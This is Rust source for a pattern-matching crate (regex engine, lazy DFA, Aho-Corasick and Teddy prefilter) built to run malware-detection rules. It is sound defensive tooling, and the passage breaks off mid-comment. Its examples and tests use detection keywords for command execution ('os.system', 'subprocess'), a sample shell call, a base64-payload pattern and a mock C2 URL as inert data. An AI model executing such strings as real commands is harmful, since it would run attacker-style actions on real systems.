//! `textmatch` — pattern-matching substrate for the RuleLLM reproduction.
//!
//! The paper's YARA engine, Semgrep engine, score-based baseline and
//! basic-unit splitter all need text search primitives. This crate provides
//! two from-scratch engines:
//!
//! * [`Regex`] — a byte-oriented regular-expression engine (Thompson NFA,
//!   single-pass Pike-VM execution with literal acceleration) supporting
//!   the subset of syntax that appears in YARA rules: literals, escapes,
//!   character classes, `.`, anchors, alternation, groups, and
//!   bounded/unbounded quantifiers. `find`/`find_all` run in
//!   `O(len * insts)`; compile-time [`ScanInfo`] hints (anchoring,
//!   mandatory first bytes, literal prefixes) skip hopeless offsets.
//! * [`AhoCorasick`] — a multi-pattern substring scanner used to match the
//!   `strings:` section of many YARA rules against a package in one pass.
//! * [`ReferenceRegex`] — the original restart-per-offset quadratic scan,
//!   kept as the differential-testing oracle and benchmark baseline.
//!
//! On top of those sit the **tiered fast paths** the scan services use:
//!
//! * [`MultiLiteral`] — tier-selecting multi-pattern matcher that routes
//!   small/long pattern sets to a Teddy-style SWAR prefilter ([`Teddy`])
//!   and everything else to [`AhoCorasick`], with identical match
//!   streams either way.
//! * [`Regex`] transparently runs a bounded lazy DFA (built on demand
//!   from the same NFA) as an existence gate before Pike-VM span
//!   extraction, falling back to the Pike VM when a program is
//!   ineligible (word boundaries) or the state cache thrashes.
//!
//! Tier activity is observable through [`engine_counters`].
//!
//! # Examples
//!
//! ```
//! use textmatch::Regex;
//!
//! let re = Regex::new(r"([A-Za-z0-9+/]{4}){2,}(==|=)?")?;
//! assert!(re.is_match(b"payload = aGVsbG8gd29ybGQ="));
//! # Ok::<(), textmatch::RegexError>(())
//! ```
//!
//! ```
//! use textmatch::{AhoCorasick, MatchKind};
//!
//! let ac = AhoCorasick::new(&["os.system", "subprocess"], MatchKind::CaseSensitive);
//! let hits = ac.find_all(b"import subprocess; os.system('id')");
//! assert_eq!(hits.len(), 2);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod ac;
mod ast;
mod charclass;
mod counters;
mod dfa;
mod error;
mod literal;
mod multi;
mod nfa;
mod parser;
mod reference;
mod teddy;

pub use ac::{AcMatch, AhoCorasick, MatchKind};
pub use ast::{Ast, Quantifier};
pub use charclass::CharClass;
pub use counters::{engine_counters, EngineCounters};
pub use dfa::{DfaOutcome, MAX_DFA_STATES, MAX_FLUSHES_PER_SCAN};
pub use error::RegexError;
pub use literal::ScanInfo;
pub use multi::{MultiLiteral, MAX_TEDDY_PATTERNS, MIN_TEDDY_PATTERN_LEN};
pub use nfa::{Match, Program, Regex};
pub use parser::parse;
pub use reference::ReferenceRegex;
pub use teddy::Teddy;

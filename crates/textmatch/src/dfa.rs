//! Lazy DFA over the compiled Thompson NFA.
//!
//! The Pike VM simulates a thread *set* per input byte; for regexes whose
//! NFAs determinize cheaply, this module collapses each reachable thread
//! set into a DFA state built **on demand**, dropping the per-byte cost
//! to one table transition. The design mirrors the `regex-automata`
//! hybrid engine, sized for this workspace:
//!
//! * **Eligibility** — programs containing `\b`/`\B` are rejected at
//!   compile time (word-boundary closures depend on the previous byte in
//!   a way the state key does not capture); `^` is handled by separate
//!   start states for offset 0 vs interior seeds, and `$` by carrying
//!   blocked `AssertEnd` continuations in the state and resolving them
//!   once at end of input.
//! * **Byte classes** — compile-time partition refinement over the
//!   program's `ByteSet`s shrinks each state's transition table from 256
//!   entries to one per distinguishable class.
//! * **Bounded cache** — at most [`MAX_DFA_STATES`] states live at once;
//!   overflow flushes and rebuilds (counted), and a scan that flushes
//!   more than [`MAX_FLUSHES_PER_SCAN`] times gives up so the caller
//!   falls back to the Pike VM (counted as a `pikevm_fallback`).
//! * **Semantics** — existence only ([`LazyDfa::earliest_end`] reports
//!   the earliest position any match ends at, or that none exists).
//!   Leftmost-longest span extraction stays on the Pike VM; the callers
//!   in [`crate::Regex`] use the DFA as an exact no-match gate, which is
//!   where thread-set simulation burns the most time.
//!
//! Every transition re-seeds an interior start thread (unanchored
//! search), and when the machine sits in the interior start state the
//! literal acceleration from [`ScanInfo`] skips hopeless offsets exactly
//! like the Pike VM does, so the DFA never loses to the accelerated
//! baseline.

use std::collections::HashMap;

use crate::literal::ScanInfo;
use crate::nfa::{Inst, Program};

/// Bounded state-cache capacity; overflow flushes and rebuilds.
pub const MAX_DFA_STATES: usize = 512;

/// Flush budget per scan before the DFA declares thrashing and gives up.
pub const MAX_FLUSHES_PER_SCAN: u32 = 4;

/// Programs larger than this skip the DFA tier (state sets get wide and
/// the byte-class analysis stops being compile-time noise).
const MAX_DFA_PROGRAM: usize = 4096;

const UNKNOWN: u32 = u32::MAX;

/// Outcome of a DFA existence scan.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DfaOutcome {
    /// No match begins at or after the scan start.
    NoMatch,
    /// Some match ends at this offset (the earliest such offset).
    MatchEnd(usize),
    /// The state cache thrashed; the caller must use the Pike VM.
    GaveUp,
}

/// Compile-time DFA facts for one program: eligibility plus the
/// byte-class partition shared by every scan.
#[derive(Debug, Clone)]
pub struct DfaPrefab {
    class_of: Box<[u8; 256]>,
    class_count: usize,
}

/// Analyzes `program` for DFA eligibility; `None` means the Pike VM owns
/// every scan (word-boundary assertions or an oversized program).
pub(crate) fn analyze_dfa(program: &Program) -> Option<DfaPrefab> {
    if program.insts.len() > MAX_DFA_PROGRAM {
        return None;
    }
    if program
        .insts
        .iter()
        .any(|i| matches!(i, Inst::AssertWord(_)))
    {
        return None;
    }
    // Partition refinement: two bytes share a class iff no ByteSet in the
    // program distinguishes them, so one transition per class suffices.
    let mut class_of = [0u16; 256];
    let mut count = 1usize;
    for inst in &program.insts {
        let Inst::Byte(set) = inst else { continue };
        let mut remap = [u16::MAX; 512];
        let mut next = 0u16;
        for (b, class) in class_of.iter_mut().enumerate() {
            let key = ((*class as usize) << 1) | usize::from(set.matches(b as u8));
            if remap[key] == u16::MAX {
                remap[key] = next;
                next += 1;
            }
            *class = remap[key];
        }
        count = next as usize;
        if count == 256 {
            break;
        }
    }
    let mut packed = Box::new([0u8; 256]);
    for (slot, class) in packed.iter_mut().zip(class_of.iter()) {
        *slot = *class as u8;
    }
    Some(DfaPrefab {
        class_of: packed,
        class_count: count,
    })
}

struct State {
    /// Sorted `Byte`-instruction pcs (the live thread set).
    pcs: Box<[u32]>,
    /// Sorted `AssertEnd` pcs blocked mid-closure; resolved at input end.
    pending_end: Box<[u32]>,
    /// A `Match` was epsilon-reachable when this state was built.
    matched: bool,
    /// Lazily filled transitions, one per byte class.
    trans: Box<[u32]>,
}

/// Interning key: thread set + blocked-`$` set + matched flag. The flag
/// participates because two closures can share pcs yet differ on whether
/// `Match` was epsilon-reachable (e.g. `^` at offset 0 vs interior).
type StateKey = (Box<[u32]>, Box<[u32]>, bool);

/// Epsilon-closure scratch, separate from the state table so closure
/// traversal can borrow the program while mutating accumulators.
struct Scratch {
    stamp: Vec<u64>,
    gen: u64,
    stack: Vec<u32>,
    pcs: Vec<u32>,
    pending: Vec<u32>,
    matched: bool,
}

impl Scratch {
    fn new(len: usize) -> Self {
        Scratch {
            stamp: vec![0; len],
            gen: 0,
            stack: Vec::new(),
            pcs: Vec::new(),
            pending: Vec::new(),
            matched: false,
        }
    }

    fn begin(&mut self) {
        self.gen += 1;
        self.pcs.clear();
        self.pending.clear();
        self.matched = false;
    }

    /// Epsilon closure from `pc` in a mid-input context (`at_start` only
    /// for the offset-0 start state); `AssertEnd` blocks into `pending`.
    fn close(&mut self, program: &Program, pc: u32, at_start: bool) {
        debug_assert!(self.stack.is_empty());
        self.stack.push(pc);
        while let Some(pc) = self.stack.pop() {
            if self.stamp[pc as usize] == self.gen {
                continue;
            }
            self.stamp[pc as usize] = self.gen;
            match &program.insts[pc as usize] {
                Inst::Jmp(t) => self.stack.push(*t as u32),
                Inst::Split(a, b) => {
                    self.stack.push(*a as u32);
                    self.stack.push(*b as u32);
                }
                Inst::AssertStart => {
                    if at_start {
                        self.stack.push(pc + 1);
                    }
                }
                Inst::AssertEnd => self.pending.push(pc),
                Inst::AssertWord(_) => unreachable!("AssertWord programs are DFA-ineligible"),
                Inst::Match => self.matched = true,
                Inst::Byte(_) => self.pcs.push(pc),
            }
        }
    }

    /// Like [`Scratch::close`] but in the end-of-input context: `$`
    /// passes, byte instructions are dead ends.
    fn close_at_end(&mut self, program: &Program, pc: u32, at_start: bool) {
        debug_assert!(self.stack.is_empty());
        self.stack.push(pc);
        while let Some(pc) = self.stack.pop() {
            if self.stamp[pc as usize] == self.gen {
                continue;
            }
            self.stamp[pc as usize] = self.gen;
            match &program.insts[pc as usize] {
                Inst::Jmp(t) => self.stack.push(*t as u32),
                Inst::Split(a, b) => {
                    self.stack.push(*a as u32);
                    self.stack.push(*b as u32);
                }
                Inst::AssertStart => {
                    if at_start {
                        self.stack.push(pc + 1);
                    }
                }
                Inst::AssertEnd => self.stack.push(pc + 1),
                Inst::AssertWord(_) => unreachable!(),
                Inst::Match => self.matched = true,
                Inst::Byte(_) => {} // no bytes left to consume
            }
        }
    }

    fn key(&mut self) -> StateKey {
        self.pcs.sort_unstable();
        self.pcs.dedup();
        self.pending.sort_unstable();
        self.pending.dedup();
        (
            self.pcs.clone().into_boxed_slice(),
            self.pending.clone().into_boxed_slice(),
            self.matched,
        )
    }
}

/// One scan's lazy DFA: per-call construction (no cross-thread sharing),
/// reusable across the iterations of a `find_all` loop so the state
/// cache amortizes over the whole haystack.
pub struct LazyDfa<'p> {
    program: &'p Program,
    prefab: &'p DfaPrefab,
    states: Vec<State>,
    map: HashMap<StateKey, u32>,
    scratch: Scratch,
    states_built: u64,
    total_flushes: u64,
    flushes_this_scan: u32,
    gave_up: bool,
}

impl<'p> LazyDfa<'p> {
    pub(crate) fn new(program: &'p Program, prefab: &'p DfaPrefab) -> Self {
        LazyDfa {
            program,
            prefab,
            states: Vec::new(),
            map: HashMap::new(),
            scratch: Scratch::new(program.insts.len()),
            states_built: 0,
            total_flushes: 0,
            flushes_this_scan: 0,
            gave_up: false,
        }
    }

    /// Earliest offset at which any match (starting at or after `from`)
    /// ends; existence-exact against the Pike VM.
    pub(crate) fn earliest_end(&mut self, hay: &[u8], from: usize, scan: &ScanInfo) -> DfaOutcome {
        if from > hay.len() {
            return DfaOutcome::NoMatch;
        }
        self.flushes_this_scan = 0;
        let mut interior = self.build_start(false);
        let mut cur = if from == 0 {
            self.build_start(true)
        } else {
            interior
        };
        if self.states[cur as usize].matched {
            return DfaOutcome::MatchEnd(from);
        }
        let mut pos = from;
        loop {
            if cur == interior {
                // No live thread has consumed anything: jump to the next
                // offset where a match could begin (same hints the Pike
                // VM uses). `None` means the tail cannot contain one.
                match scan.next_candidate(hay, pos) {
                    Some(p) => pos = p,
                    None => return DfaOutcome::NoMatch,
                }
            }
            if pos == hay.len() {
                break;
            }
            let class = self.prefab.class_of[hay[pos] as usize];
            let (next, flushed) = match self.next_state(cur, class) {
                Some(v) => v,
                None => {
                    self.gave_up = true;
                    return DfaOutcome::GaveUp;
                }
            };
            if flushed {
                interior = self.build_start(false);
            }
            pos += 1;
            cur = next;
            let st = &self.states[cur as usize];
            if st.matched {
                return DfaOutcome::MatchEnd(pos);
            }
            if st.pcs.is_empty() && st.pending_end.is_empty() {
                // Truly dead (anchored pattern whose window passed): the
                // re-seed survives in every unanchored program, so an
                // empty state means nothing downstream can match.
                return DfaOutcome::NoMatch;
            }
        }
        // End of input: resolve the blocked `$` continuations.
        if self.end_matches(cur, hay.is_empty()) {
            DfaOutcome::MatchEnd(hay.len())
        } else {
            DfaOutcome::NoMatch
        }
    }

    fn build_start(&mut self, at_start: bool) -> u32 {
        self.scratch.begin();
        self.scratch.close(self.program, 0, at_start);
        self.intern()
    }

    /// Transition `cur` on byte-class `class`, determinizing on demand.
    /// Returns `None` when the flush budget is exhausted (thrashing).
    fn next_state(&mut self, cur: u32, class: u8) -> Option<(u32, bool)> {
        let cached = self.states[cur as usize].trans[class as usize];
        if cached != UNKNOWN {
            return Some((cached, false));
        }
        let repr = self.repr_byte(class);
        self.scratch.begin();
        // Byte moves from the current thread set...
        for i in 0..self.states[cur as usize].pcs.len() {
            let pc = self.states[cur as usize].pcs[i];
            let advances = match &self.program.insts[pc as usize] {
                Inst::Byte(set) => set.matches(repr),
                _ => false,
            };
            if advances {
                self.scratch.close(self.program, pc + 1, false);
            }
        }
        // ...plus the unanchored re-seed at the new position.
        self.scratch.close(self.program, 0, false);
        let mut flushed = false;
        if self.states.len() >= MAX_DFA_STATES {
            let key = self.scratch.key();
            if !self.map.contains_key(&key) {
                self.flushes_this_scan += 1;
                self.total_flushes += 1;
                if self.flushes_this_scan > MAX_FLUSHES_PER_SCAN {
                    return None;
                }
                self.states.clear();
                self.map.clear();
                flushed = true;
            }
        }
        let next = self.intern();
        if !flushed {
            self.states[cur as usize].trans[class as usize] = next;
        }
        Some((next, flushed))
    }

    /// A representative byte of `class` (all members of a class behave
    /// identically against every ByteSet by construction).
    fn repr_byte(&self, class: u8) -> u8 {
        self.prefab
            .class_of
            .iter()
            .position(|&c| c == class)
            .unwrap_or(0) as u8
    }

    fn intern(&mut self) -> u32 {
        let key = self.scratch.key();
        if let Some(&id) = self.map.get(&key) {
            return id;
        }
        let id = self.states.len() as u32;
        self.states.push(State {
            pcs: key.0.clone(),
            pending_end: key.1.clone(),
            matched: key.2,
            trans: vec![UNKNOWN; self.prefab.class_count].into_boxed_slice(),
        });
        self.map.insert(key, id);
        self.states_built += 1;
        id
    }

    /// Resolves the state's blocked `$` continuations at end of input;
    /// `at_start` is true only for an empty haystack scanned from 0.
    fn end_matches(&mut self, state: u32, at_start: bool) -> bool {
        self.scratch.begin();
        for i in 0..self.states[state as usize].pending_end.len() {
            let pc = self.states[state as usize].pending_end[i];
            self.scratch.close_at_end(self.program, pc + 1, at_start);
        }
        self.scratch.matched
    }
}

impl Drop for LazyDfa<'_> {
    fn drop(&mut self) {
        crate::counters::record_dfa_scan(self.states_built, self.total_flushes, self.gave_up);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Regex;

    fn exists_via_dfa(re: &Regex, hay: &[u8]) -> bool {
        match re.dfa_earliest_end(hay, 0) {
            Some(DfaOutcome::MatchEnd(_)) => true,
            Some(DfaOutcome::NoMatch) => false,
            Some(DfaOutcome::GaveUp) => panic!("cache thrashed on a tiny test input"),
            None => panic!("pattern unexpectedly DFA-ineligible"),
        }
    }

    fn agree(pattern: &str, hay: &[u8]) {
        let re = Regex::new(pattern).unwrap();
        assert_eq!(
            exists_via_dfa(&re, hay),
            re.is_match_pike(hay),
            "pattern {pattern:?} on {:?}",
            String::from_utf8_lossy(hay),
        );
    }

    #[test]
    fn existence_matches_pike_on_edge_patterns() {
        let cases: &[(&str, &[u8])] = &[
            ("abc", b"xxabcxx"),
            ("abc", b"xxabx"),
            ("a.*z|bc", b"abcz"),
            ("a.*z|bc", b"abq"),
            ("^abc", b"abcdef"),
            ("^abc", b"xabc"),
            ("abc$", b"xxabc"),
            ("abc$", b"abcx"),
            ("^abc$", b"abc"),
            ("^abc$", b"abcd"),
            ("^$", b""),
            ("^$", b"a"),
            ("a*", b""),
            ("a*", b"bbb"),
            ("(ab|cd)+ef", b"cdabefx"),
            ("(ab|cd)+ef", b"cdabex"),
            ("[0-9]{3}-[0-9]{4}", b"call 555-1234 now"),
            ("[0-9]{3}-[0-9]{4}", b"call 555-123 now"),
            ("x$|y", b"zzzx"),
            ("x$|y", b"xzzz"),
        ];
        for (pattern, hay) in cases {
            agree(pattern, hay);
        }
    }

    #[test]
    fn earliest_end_is_the_first_match_end() {
        let re = Regex::new("bc").unwrap();
        assert_eq!(
            re.dfa_earliest_end(b"aabcbc", 0),
            Some(DfaOutcome::MatchEnd(4))
        );
        assert_eq!(
            re.dfa_earliest_end(b"aabcbc", 3),
            Some(DfaOutcome::MatchEnd(6))
        );
        assert_eq!(re.dfa_earliest_end(b"aabcbc", 5), Some(DfaOutcome::NoMatch));
    }

    #[test]
    fn word_boundary_patterns_are_ineligible() {
        let re = Regex::new(r"\beval\b").unwrap();
        assert!(!re.dfa_eligible());
        assert!(re.dfa_earliest_end(b" eval ", 0).is_none());
        // The public path still answers correctly via the Pike VM.
        assert!(re.is_match(b" eval "));
        assert!(!re.is_match(b"medieval"));
    }

    #[test]
    fn anchored_miss_dies_without_scanning_the_tail() {
        let re = Regex::new("^MZ").unwrap();
        let mut hay = vec![b'P', b'K'];
        hay.extend(std::iter::repeat_n(b'x', 1 << 16));
        assert_eq!(re.dfa_earliest_end(&hay, 0), Some(DfaOutcome::NoMatch));
        assert!(!re.is_match(&hay));
    }

    #[test]
    fn gated_find_all_equals_pike_find_all() {
        let patterns = [
            "(ab|cd)+ef",
            "[A-Za-z0-9+/]{8}",
            "https?://[a-z./-]+",
            "x+y?z",
        ];
        let hay: Vec<u8> = (0..4096u32)
            .flat_map(|i| {
                let chunk: Vec<u8> = match i % 7 {
                    0 => b"cdabef ".to_vec(),
                    1 => b"aGVsbG8w ".to_vec(),
                    2 => b"http://c2.example/p ".to_vec(),
                    3 => b"xxyz ".to_vec(),
                    _ => b"plain filler text .. ".to_vec(),
                };
                chunk
            })
            .collect();
        for p in patterns {
            let re = Regex::new(p).unwrap();
            assert_eq!(re.find_all(&hay), re.find_all_pike(&hay), "pattern {p:?}");
        }
    }

    #[test]
    fn byte_classes_collapse_the_alphabet() {
        let re = Regex::new("[a-z]+").unwrap();
        let prefab = analyze_dfa(re.program()).unwrap();
        // Two classes: lowercase letters and everything else.
        assert_eq!(prefab.class_count, 2);
        assert_eq!(
            prefab.class_of[b'a' as usize],
            prefab.class_of[b'z' as usize]
        );
        assert_ne!(
            prefab.class_of[b'a' as usize],
            prefab.class_of[b'0' as usize]
        );
    }

    #[test]
    fn counters_record_dfa_activity() {
        let before = crate::engine_counters();
        let re = Regex::new("needle").unwrap();
        let hay = vec![b'x'; 4096];
        assert_eq!(re.dfa_earliest_end(&hay, 0), Some(DfaOutcome::NoMatch));
        let after = crate::engine_counters();
        assert!(after.dfa_scans > before.dfa_scans);
        assert!(after.dfa_states_built > before.dfa_states_built);
    }
}

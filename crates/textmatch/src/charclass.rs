//! Byte-range character classes.
//!
//! Classes operate on raw bytes (Latin-1 view of the haystack): YARA scans
//! arbitrary file contents, so the engine must not assume UTF-8.

/// A set of bytes expressed as sorted, disjoint inclusive ranges.
///
/// Supports negation and the usual Perl-style shorthands (`\d`, `\w`,
/// `\s`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CharClass {
    ranges: Vec<(u8, u8)>,
    negated: bool,
}

impl CharClass {
    /// Creates an empty (matches nothing) class.
    pub fn new() -> Self {
        CharClass {
            ranges: Vec::new(),
            negated: false,
        }
    }

    /// Creates a class that matches exactly one byte.
    pub fn single(byte: u8) -> Self {
        let mut c = CharClass::new();
        c.push_range(byte, byte);
        c
    }

    /// Creates the `.` class: every byte except `\n`.
    pub fn dot() -> Self {
        let mut c = CharClass::new();
        c.push_range(0, b'\n' - 1);
        c.push_range(b'\n' + 1, 0xFF);
        c
    }

    /// Creates the `\d` class.
    pub fn digit() -> Self {
        let mut c = CharClass::new();
        c.push_range(b'0', b'9');
        c
    }

    /// Creates the `\w` class (`[A-Za-z0-9_]`).
    pub fn word() -> Self {
        let mut c = CharClass::new();
        c.push_range(b'0', b'9');
        c.push_range(b'A', b'Z');
        c.push_range(b'_', b'_');
        c.push_range(b'a', b'z');
        c
    }

    /// Creates the `\s` class (space, tab, CR, LF, FF, VT).
    pub fn space() -> Self {
        let mut c = CharClass::new();
        c.push_range(b'\t', b'\r');
        c.push_range(b' ', b' ');
        c
    }

    /// Adds an inclusive byte range to the class.
    pub fn push_range(&mut self, lo: u8, hi: u8) {
        debug_assert!(lo <= hi, "class range must be ordered");
        self.ranges.push((lo, hi));
        self.normalize();
    }

    /// Merges all ranges of `other` into `self` (set union).
    pub fn union(&mut self, other: &CharClass) {
        debug_assert!(!other.negated, "union expects a positive class");
        self.ranges.extend_from_slice(&other.ranges);
        self.normalize();
    }

    /// Marks the class as negated (matches the complement).
    pub fn negate(&mut self) {
        self.negated = !self.negated;
    }

    /// Returns true when the class is negated.
    pub fn is_negated(&self) -> bool {
        self.negated
    }

    /// Returns true when no positive ranges were added.
    pub fn is_empty(&self) -> bool {
        self.ranges.is_empty()
    }

    /// Tests whether `byte` belongs to the class.
    pub fn matches(&self, byte: u8) -> bool {
        let inside = self.ranges.iter().any(|&(lo, hi)| lo <= byte && byte <= hi);
        inside != self.negated
    }

    /// Expands the class so that for every cased letter it contains, the
    /// opposite case is also included. Used by the `nocase`/`i` modifiers.
    pub fn make_case_insensitive(&mut self) {
        let mut extra = Vec::new();
        for &(lo, hi) in &self.ranges {
            // Overlap with uppercase letters -> add lowercase counterpart.
            let ulo = lo.max(b'A');
            let uhi = hi.min(b'Z');
            if ulo <= uhi {
                extra.push((ulo + 32, uhi + 32));
            }
            let llo = lo.max(b'a');
            let lhi = hi.min(b'z');
            if llo <= lhi {
                extra.push((llo - 32, lhi - 32));
            }
        }
        self.ranges.extend(extra);
        self.normalize();
    }

    fn normalize(&mut self) {
        self.ranges.sort_unstable();
        let mut merged: Vec<(u8, u8)> = Vec::with_capacity(self.ranges.len());
        for &(lo, hi) in &self.ranges {
            match merged.last_mut() {
                Some(last) if lo <= last.1.saturating_add(1) => {
                    last.1 = last.1.max(hi);
                }
                _ => merged.push((lo, hi)),
            }
        }
        self.ranges = merged;
    }
}

impl Default for CharClass {
    fn default() -> Self {
        CharClass::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn single_matches_only_that_byte() {
        let c = CharClass::single(b'x');
        assert!(c.matches(b'x'));
        assert!(!c.matches(b'y'));
    }

    #[test]
    fn dot_excludes_newline() {
        let c = CharClass::dot();
        assert!(c.matches(b'a'));
        assert!(c.matches(0xFF));
        assert!(!c.matches(b'\n'));
    }

    #[test]
    fn digit_class() {
        let c = CharClass::digit();
        for b in b'0'..=b'9' {
            assert!(c.matches(b));
        }
        assert!(!c.matches(b'a'));
    }

    #[test]
    fn word_class_includes_underscore() {
        let c = CharClass::word();
        assert!(c.matches(b'_'));
        assert!(c.matches(b'Z'));
        assert!(!c.matches(b'-'));
    }

    #[test]
    fn space_class() {
        let c = CharClass::space();
        assert!(c.matches(b' '));
        assert!(c.matches(b'\t'));
        assert!(c.matches(b'\n'));
        assert!(!c.matches(b'x'));
    }

    #[test]
    fn negation_flips_membership() {
        let mut c = CharClass::digit();
        c.negate();
        assert!(!c.matches(b'5'));
        assert!(c.matches(b'a'));
    }

    #[test]
    fn ranges_merge_when_adjacent() {
        let mut c = CharClass::new();
        c.push_range(b'a', b'm');
        c.push_range(b'n', b'z');
        assert!(c.matches(b'n'));
        assert!(c.matches(b'z'));
        // Internal representation merged to one range.
        assert_eq!(c.ranges.len(), 1);
    }

    #[test]
    fn case_insensitive_expansion() {
        let mut c = CharClass::new();
        c.push_range(b'a', b'f');
        c.make_case_insensitive();
        assert!(c.matches(b'A'));
        assert!(c.matches(b'F'));
        assert!(!c.matches(b'G'));
    }

    #[test]
    fn union_combines_classes() {
        let mut c = CharClass::digit();
        c.union(&CharClass::space());
        assert!(c.matches(b'7'));
        assert!(c.matches(b' '));
        assert!(!c.matches(b'q'));
    }
}

//! Teddy-style bucketed multi-literal prefilter.
//!
//! The technique behind the `aho-corasick` crate's SIMD prefilter,
//! adapted to this workspace's zero-dependency, `forbid(unsafe_code)`
//! constraints: instead of PSHUFB nibble shuffles, the classifier works
//! on `u64` "SWAR" words — eight candidate start positions per step.
//!
//! Construction hashes the first `fp_len` (1–3) folded bytes of every
//! pattern into one of [`BUCKETS`] buckets and builds, for each
//! fingerprint position, a 256-entry byte→bucket-mask table. Scanning
//! gathers the tables for eight consecutive starts into `u64` mask words,
//! ANDs them across fingerprint positions, and only when the combined
//! candidate word is non-zero verifies the surviving buckets' patterns
//! with a folded byte comparison. On filter-friendly input almost every
//! chunk resolves to zero in a handful of word ops, so the per-byte cost
//! is far below the Aho-Corasick automaton's dependent load chain.
//!
//! Match semantics are identical to [`crate::AhoCorasick`]: every
//! occurrence of every pattern (overlapping included), pattern ids in
//! construction order, empty patterns never match. `find_all` returns
//! matches in exactly AC's stream order (ascending end, then ascending
//! start, then pattern id); `for_each_match` streams in ascending *start*
//! order instead — callers that need AC's order sort, callers that only
//! aggregate (the prefilter and the YARA scanner) don't care. The
//! differential property suite pins both entry points against AC.

use crate::ac::{AcMatch, MatchKind};
use crate::counters;

/// Number of pattern buckets — one bit per bucket in a `u8` mask.
pub const BUCKETS: usize = 8;

/// Longest fingerprint prefix used for classification.
const MAX_FP_LEN: usize = 3;

/// A compiled Teddy prefilter over a fixed pattern set.
///
/// Build one with [`Teddy::new`]; construction never fails, but patterns
/// sets that cannot be filtered profitably (see
/// [`crate::MultiLiteral`]) are better served by Aho-Corasick.
#[derive(Debug, Clone)]
pub struct Teddy {
    /// Folded pattern bytes, in construction order (empty patterns kept
    /// so ids line up, but never matched).
    patterns: Vec<Box<[u8]>>,
    /// Pattern ids per bucket, in construction order.
    buckets: [Vec<u32>; BUCKETS],
    /// Per fingerprint position: raw haystack byte → bucket mask.
    masks: [[u8; 256]; MAX_FP_LEN],
    /// Fingerprint length actually used (min(3, shortest pattern)).
    fp_len: usize,
    kind: MatchKind,
}

#[inline]
fn fold(b: u8, kind: MatchKind) -> u8 {
    match kind {
        MatchKind::CaseSensitive => b,
        MatchKind::CaseInsensitive => b.to_ascii_lowercase(),
    }
}

impl Teddy {
    /// Builds a prefilter over `patterns`.
    ///
    /// Empty patterns are permitted but never match (ids still count).
    pub fn new<S: AsRef<[u8]>>(patterns: &[S], kind: MatchKind) -> Self {
        let folded: Vec<Box<[u8]>> = patterns
            .iter()
            .map(|p| p.as_ref().iter().map(|&b| fold(b, kind)).collect())
            .collect();
        let fp_len = folded
            .iter()
            .filter(|p| !p.is_empty())
            .map(|p| p.len())
            .min()
            .unwrap_or(1)
            .min(MAX_FP_LEN);
        let mut buckets: [Vec<u32>; BUCKETS] = std::array::from_fn(|_| Vec::new());
        let mut masks = [[0u8; 256]; MAX_FP_LEN];
        for (idx, pat) in folded.iter().enumerate() {
            if pat.is_empty() {
                continue;
            }
            // Hash the fingerprint's low nibbles into a bucket so patterns
            // sharing a fingerprint land together and verification stays
            // local to one bucket.
            let mut h = 0xcbf2_9ce4_8422_2325u64;
            for &b in &pat[..fp_len] {
                h ^= u64::from(b & 0x0f) | (u64::from(b) << 4);
                h = h.wrapping_mul(0x1000_0000_01b3);
            }
            let bucket = (h % BUCKETS as u64) as usize;
            buckets[bucket].push(idx as u32);
            let bit = 1u8 << bucket;
            for (q, &b) in pat[..fp_len].iter().enumerate() {
                masks[q][b as usize] |= bit;
                if kind == MatchKind::CaseInsensitive && b.is_ascii_lowercase() {
                    masks[q][b.to_ascii_uppercase() as usize] |= bit;
                }
            }
        }
        Teddy {
            patterns: folded,
            buckets,
            masks,
            fp_len,
            kind,
        }
    }

    /// Number of patterns (in construction order).
    pub fn pattern_count(&self) -> usize {
        self.patterns.len()
    }

    /// Fingerprint length the classifier uses (1–3 bytes).
    pub fn fingerprint_len(&self) -> usize {
        self.fp_len
    }

    /// Returns true when any pattern occurs in `haystack`.
    pub fn is_match(&self, haystack: &[u8]) -> bool {
        let mut found = false;
        self.for_each_match(haystack, |_| {
            found = true;
            false
        });
        found
    }

    /// Finds all occurrences of all patterns (overlapping included), in
    /// exactly [`crate::AhoCorasick::find_all`]'s order.
    pub fn find_all(&self, haystack: &[u8]) -> Vec<AcMatch> {
        let mut out = Vec::new();
        self.for_each_match(haystack, |m| {
            out.push(m);
            true
        });
        // AC streams by ascending end position; at one end position its
        // output chains yield longer matches (earlier starts) first, and
        // construction order for duplicates. The SWAR scan walks starts
        // instead, so re-establish AC's order here.
        out.sort_by_key(|m| (m.end, m.start, m.pattern));
        out
    }

    /// Streams every occurrence (overlapping included) to `visit`, in
    /// ascending start order. The visitor returns `false` to stop early.
    pub fn for_each_match(&self, haystack: &[u8], mut visit: impl FnMut(AcMatch) -> bool) {
        let n = haystack.len();
        let fp = self.fp_len;
        let mut classified = 0u64;
        let mut verified = 0u64;
        let mut stopped = false;
        if n >= fp {
            let last = n - fp; // last viable start, inclusive
            let mut i = 0usize;
            // SWAR main loop: classify 8 starts per step. Needs bytes up
            // to (i + 7) + fp - 1, so stop while that stays in bounds.
            'chunks: while i + 7 <= last {
                classified += 1;
                let mut cand = gather(&self.masks[0], haystack, i);
                for q in 1..fp {
                    cand &= gather(&self.masks[q], haystack, i + q);
                }
                if cand != 0 {
                    verified += 1;
                    let mut rest = cand;
                    while rest != 0 {
                        let j = (rest.trailing_zeros() / 8) as usize;
                        let mask = (cand >> (j * 8)) as u8;
                        if !self.verify_at(haystack, i + j, mask, &mut visit) {
                            stopped = true;
                            break 'chunks;
                        }
                        rest &= !(0xffu64 << (j * 8));
                    }
                }
                i += 8;
            }
            // Tail: per-start classification with the same tables.
            if !stopped {
                while i <= last {
                    let mut mask = self.masks[0][haystack[i] as usize];
                    for q in 1..fp {
                        mask &= self.masks[q][haystack[i + q] as usize];
                    }
                    if mask != 0 && !self.verify_at(haystack, i, mask, &mut visit) {
                        break;
                    }
                    i += 1;
                }
            }
        }
        counters::record_teddy_scan(n as u64, classified, verified);
    }

    /// Returns, for each pattern, the list of match offsets in `haystack`
    /// (ascending), mirroring [`crate::AhoCorasick::find_per_pattern`].
    pub fn find_per_pattern(&self, haystack: &[u8]) -> Vec<Vec<usize>> {
        let mut per: Vec<Vec<usize>> = vec![Vec::new(); self.patterns.len()];
        self.for_each_match(haystack, |m| {
            per[m.pattern].push(m.start);
            true
        });
        per
    }

    /// Verifies every pattern of the buckets named in `mask` against the
